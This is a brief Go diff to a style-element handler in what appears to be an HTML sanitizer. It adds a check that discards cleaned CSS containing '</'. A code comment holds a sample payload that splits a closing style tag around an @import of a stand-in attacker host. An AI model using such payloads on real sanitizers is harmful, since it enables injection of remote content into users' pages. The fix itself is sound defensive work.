@@ -133,5 +133,8 @@ func (w *rewriter) endStyle(b, content []byte) {
 	}
 	f.Element, f.Offset, f.Removed = "style", w.offset+int64(w.mark), true
 	w.found(f, content)
+	if bytes.Contains(cleaned, []byte("</")) { // </sty@import '//evil.test/';le>
+		cleaned = nil
+	}
 	w.passHeldWith(b, cleaned)
 }
